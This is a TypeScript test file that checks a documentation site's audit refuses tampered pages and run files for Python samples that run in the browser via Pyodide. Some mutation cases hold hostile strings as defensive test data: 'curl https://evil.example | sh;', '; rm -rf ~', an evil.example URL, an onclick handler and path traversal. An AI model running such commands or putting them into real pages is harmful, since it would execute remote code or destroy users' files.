import { cp, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type CheerioAPI, load } from 'cheerio';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { auditSite } from '../../../src/site/audit/audit-site.ts';
import { recordAttack } from '../../fixtures/attacks.ts';
import {
  type AuditedSite,
  auditedSite,
  problemsInEdition,
  survivorsOf,
} from '../../fixtures/audited-site.ts';
import { write } from '../../fixtures/page-mutations.ts';

const PAGE = 'advanced/places/index.html';
const PYODIDE = 'pyodide/314.0.7';
const RUN = 'button[data-run]';
/** The button that copies a command. */
const UV = 'button[data-copy="uv run"]';

/** Changes of a page that would run something else than what was proved, or claim it. */
const PAGE_MUTATIONS: readonly (readonly [name: string, change: ($: CheerioAPI) => unknown])[] = [
  ['lacks the button of a sample that runs', $ => $(RUN).first().remove()],
  ['has the button twice', $ => $(RUN).first().after($(RUN).first().clone())],
  [
    'has the button on a sample that starts threads',
    $ => $('#shouts .actions').prepend($(RUN).first().clone()),
  ],
  [
    'has a button of its own on a sample that prints something else there',
    $ =>
      $('#system .actions').prepend(
        '<button type="button" data-run="/examples/places/system/run.json" aria-label="Run system">Run</button>',
      ),
  ],
  ['has the button on a figure without code', $ => $('#sums .verdict').append($(RUN).first().clone())],
  ['has the button above the code', $ => $('figcaption').first().append($(RUN).first().clone())],
  ['has the button in the text', $ => $('.prose p').first().append($(RUN).first().clone())],
  ['has the button beside the article', $ => $('main').append($(RUN).first().clone())],
  ['runs another sample', $ => $(RUN).first().attr('data-run', '/examples/places/several/run.json')],
  [
    'runs the variant in place of the original',
    $ =>
      $(RUN)
        .first()
        .attr('data-run', $(RUN).eq(1).attr('data-run') ?? ''),
  ],
  ['runs what another site has', $ => $(RUN).first().attr('data-run', 'https://evil.example/run.json')],
  ['runs data', $ => $(RUN).first().attr('data-run', 'data:application/json,{}')],
  ['runs a file above', $ => $(RUN).first().attr('data-run', '/examples/places/sums/../kept/run.json')],
  ['says something else on the button', $ => $(RUN).first().text('Run as verified')],
  ['names another sample on the button', $ => $(RUN).first().attr('aria-label', 'Run system')],
  ['hides the button', $ => $(RUN).first().attr('hidden', '')],
  ['runs by itself', $ => $(RUN).first().attr('autofocus', '')],
  ['has a handler on the button', $ => $(RUN).first().attr('onclick', 'alert(1)')],
  ['lacks the command of a sample with threads', $ => $('#shouts button[data-after]').remove()],
  ['copies another command', $ => $(UV).first().attr('data-copy', 'curl https://evil.example | sh;')],
  ['copies other arguments', $ => $('[data-after]').first().attr('data-after', '; rm -rf ~')],
  ['copies arguments that the contract has not', $ => $(UV).first().attr('data-after', '--with evil')],
  ['copies the command of one file for several', $ => $('#several .actions').append($(UV).first().clone())],
  ['copies a command twice', $ => $('#sums-sum .actions').first().append($(UV).first().clone())],
];

interface Run {
  readonly sample: { readonly entry: string; readonly files: Record<string, string> };
  readonly contract: object;
  readonly recording: object;
}

/** What a page would fetch instead. */
const RUN_MUTATIONS: readonly (readonly [name: string, change: (run: Run) => object])[] = [
  ['another program', run => withFile(run, 'sums.py', 'print(16)\n')],
  ['a program that ends without its last byte', run => withFile(run, 'sums.py', sourceIn(run).slice(0, -1))],
  ['one more file', run => withFile(run, 'sitecustomize.py', 'print(16)\n')],
  ['a file above its folder', run => withFile(run, '../sums.py', 'print(16)\n')],
  ['no file', run => ({ ...run, sample: { ...run.sample, files: {} } })],
  ['another entry', run => ({ ...run, sample: { ...run.sample, entry: 'other.py' } })],
  ['an argument', run => ({ ...run, sample: { ...run.sample, args: ['x'] } })],
  ['a variable', run => ({ ...run, sample: { ...run.sample, env: { A: '1' } } })],
  ['an input', run => ({ ...run, sample: { ...run.sample, stdin: 'x' } })],
  ['a contract that permits any order', run => ({ ...run, contract: { ...run.contract, order: 'any' } })],
  ['a contract that masks', run => ({ ...run, contract: { ...run.contract, mask: ['duration'] } })],
  ['another exit code', run => ({ ...run, contract: { ...run.contract, exit: 1 } })],
  ['a contract that shows stderr', run => ({ ...run, contract: { ...run.contract, showsStderr: true } })],
  ['a contract with one more key', run => ({ ...run, contract: { ...run.contract, network: true } })],
  ['another recording', run => ({ ...run, recording: { out: 'Sum: 17\n' } })],
  ['a recording of stderr', run => ({ ...run, recording: { ...run.recording, err: '' } })],
  ['the id of another sample', run => ({ ...run, id: 'places/system' })],
  ['another Python', run => ({ ...run, python: '3.13.0' })],
  ['another Pyodide', run => ({ ...run, pyodide: '0.29.0' })],
  ['a Pyodide of another folder', run => ({ ...run, pyodide: '../examples' })],
  ['one more fact', run => ({ ...run, url: 'https://evil.example/' })],
  ['nothing', () => ({})],
];

function withFile(run: Run, name: string, text: string): Run {
  const files = { ...run.sample.files, [name]: Buffer.from(text).toString('base64') };
  return { ...run, sample: { ...run.sample, files } };
}

function sourceIn({ sample }: Run): string {
  return Buffer.from(sample.files[sample.entry] ?? '', 'base64').toString();
}

/** What is wrong with a site, except that its search index was written after the audit. */
async function problemsOf({ dist, plan }: AuditedSite): Promise<readonly string[]> {
  const { problems } = await auditSite(dist, plan);
  return problems
    .filter(({ file }) => !file.startsWith('dist/pagefind/'))
    .map(({ file, title }) => `${file}: ${title}`);
}

describe('the audit of a site whose samples run in the browser', () => {
  let site: AuditedSite;
  beforeAll(async () => {
    site = await auditedSite('tests/fixtures/browser', true);
  });
  afterAll(() => site.remove());

  test('has the samples that run, and a reason for each of the others', () => {
    const facts = [...site.plan.examples.values()]
      .flatMap(example => [example, ...example.variants])
      .map(({ id, browser }) => [id, browser?.run === undefined ? browser?.reason : 'runs']);
    expect(Object.fromEntries(facts)).toEqual({
      'places/kept': 'its contract keeps it out',
      'places/several': 'runs',
      'places/shouts': 'it starts threads',
      'places/sums': 'runs',
      'places/sums.with-chance': 'its output is not recorded',
      'places/sums.without-the-start': 'runs',
      'places/system': 'it prints something else there',
    });
  });

  test('accepts the pages of examples, and no mutation of them', async ({ task }) => {
    const survivors: string[] = [];
    for (const path of ['examples/places/sums/index.html', 'examples/places/shouts/index.html'])
      // Most are of texts of tokens, which are all compared in one way.
      survivors.push(...(await survivorsOf(site, path, PAGE, [/^changes the text/, 4])));
    recordAttack(task, {
      against: 'page',
      tried: 'pages of samples in the browser',
      refused: 'all mutations',
    });
    expect(survivors).toEqual([]);
  });

  test.for(PAGE_MUTATIONS)('refuses a page that %s', async ([, change]) => {
    const $ = load(await site.page(PAGE));
    const before = write($);
    expect(site.problemsIn(PAGE, before)).toEqual([]);
    change($);
    expect(write($)).not.toBe(before);
    expect(site.problemsIn(PAGE, write($))).not.toEqual([]);
  });

  test.for(RUN_MUTATIONS)('refuses a run with %s', async ([, change]) => {
    const name = 'examples/places/sums/run.json';
    const path = join(site.dist, name);
    const text = await readFile(path, 'utf8');
    await writeFile(path, JSON.stringify(change(JSON.parse(text) as Run)));
    const problems = await problemsOf(site);
    await writeFile(path, text);
    expect(problems).toEqual([`dist/${name}: A page would run something else than what was verified.`]);
  });

  test.for(['pyodide.mjs', 'pyodide.asm.mjs', 'pyodide.asm.wasm', 'python_stdlib.zip', 'pyodide-lock.json'])(
    'refuses %s with another last byte',
    async name => {
      const path = join(site.dist, PYODIDE, name);
      const bytes = await readFile(path);
      const changed = Buffer.from(bytes);
      changed[bytes.length - 1] = (bytes.at(-1) ?? 0) ^ 1;
      await writeFile(path, changed);
      const problems = await problemsOf(site);
      await writeFile(path, bytes);
      expect(problems).toEqual([
        `dist/${PYODIDE}/${name}: This file is not the one of the browser's Python that was proved.`,
      ]);
    },
  );

  test('refuses a site that lacks a run or a file of Pyodide, and one with a file more', async () => {
    const missing = ['examples/places/several/run.json', `${PYODIDE}/python_stdlib.zip`];
    const more = ['examples/places/system/run.json', `${PYODIDE}/pyodide.js`, 'pyodide/packages/x.whl'];
    const kept = await Promise.all(missing.map(file => readFile(join(site.dist, file))));
    for (const file of missing) await rm(join(site.dist, file));
    await cp(join(site.dist, 'examples/places/sums/run.json'), join(site.dist, more[0] ?? ''));
    for (const file of more) await cp(join(site.dist, 'favicon.svg'), join(site.dist, file));
    const problems = await problemsOf(site);
    for (const [index, file] of missing.entries()) await writeFile(join(site.dist, file), kept[index] ?? '');
    for (const file of more) await rm(join(site.dist, file));
    expect(problems.toSorted()).toEqual(
      [
        ...missing.map(file => `dist/${file}: This file of the site is missing.`),
        ...more.map(file => `dist/${file}: The plan of this site has no such file.`),
      ].toSorted(),
    );
    expect(await problemsOf(site)).toEqual([]);
  });

  test('refuses a Python that is of another version than the one that was proved', async () => {
    const browser = { pyodide: '314.0.6', python: '3.14.2' };
    const { problems } = await auditSite(site.dist, { ...site.plan, browser });
    expect(problems.map(({ title }) => title)).toContain('This file of the site is missing.');
    await cp(join(site.dist, PYODIDE), join(site.dist, 'pyodide/314.0.6'), { recursive: true });
    const named = await auditSite(site.dist, { ...site.plan, browser });
    await rm(join(site.dist, 'pyodide/314.0.6'), { recursive: true });
    expect(named.problems.map(({ title }) => title)).toContain(
      "The browser's Python is not of the version that was proved.",
    );
  });

  test.for([
    [
      'that a sample does not run',
      'Runs in the browser (Pyodide 314.0.7',
      'Does not run in the browser: (Pyodide',
    ],
    ['another Pyodide', '(Pyodide 314.0.7, Python 3.14.2)', '(Pyodide 314.0.8, Python 3.14.2)'],
    ['another reason', 'it starts threads', 'it starts processes'],
    [
      'that a sample runs',
      'Does not run in the browser: it starts threads.',
      'Runs in the browser (Pyodide 314.0.7, Python 3.14.2).',
    ],
    ['nothing', 'Does not run in the browser: it starts threads.', ''],
  ] as const)('refuses a Markdown edition with %s', async ([, found, other]) => {
    expect(await problemsInEdition(site, 'advanced/places.md', found, other)).not.toEqual([]);
  });

  test.for([
    [
      'a sample that does not run',
      '"browser":{"verified":false,"reason":"it starts threads"}',
      '"browser":{"verified":true,"reason":null}',
    ],
    ['another reason', 'it starts threads', 'it opens sockets'],
    ['another count', '"inBrowser":3', '"inBrowser":6'],
    ['another Pyodide', '{"pyodide":"314.0.7"', '{"pyodide":"314.0.8"'],
  ] as const)('refuses a list of verdicts with %s', async ([, found, other]) => {
    const path = join(site.dist, 'verified.json');
    const text = await readFile(path, 'utf8');
    expect(text).toContain(found);
    await writeFile(path, text.replace(found, other));
    const problems = await problemsOf(site);
    await writeFile(path, text);
    expect(problems).toEqual(['dist/verified.json: This list is not what was verified.']);
  });

  test('below a path, its pages fetch from there', async () => {
    const SITE_URL = 'https://name.example/project/';
    const { exitCode, text } = await site.run('build', [], { VERBATIM_BROWSER: 'on', SITE_URL });
    expect([exitCode, text]).toEqual([0, expect.any(String)]);
    const runs = load(await site.page(PAGE))(RUN).toArray();
    expect(runs.map(({ attribs }) => attribs['data-run'])).toEqual([
      ...['sums', 'sums.without-the-start', 'sums', 'sums.without-the-start', 'several'].map(
        id => `/project/examples/places/${id}/run.json`,
      ),
    ]);
    expect(await site.page('_headers')).toContain(
      '/project/pyodide/*\n  Cache-Control: public, max-age=31536000, immutable\n',
    );
    expect(await site.page('_headers')).toContain('*:*/project/pyodide/');
  });

  test('without the proof, a site has no button, no run and no Pyodide', async () => {
    const { exitCode, text } = await site.run('build', [], { VERBATIM_BROWSER: 'off' });
    expect([exitCode, text]).toEqual([0, expect.any(String)]);
    expect(await site.page(PAGE)).not.toContain('data-run');
    await expect(readFile(join(site.dist, PYODIDE, 'pyodide.mjs'))).rejects.toThrow('ENOENT');
    await expect(readFile(join(site.dist, 'examples/places/sums/run.json'))).rejects.toThrow('ENOENT');
  });
});
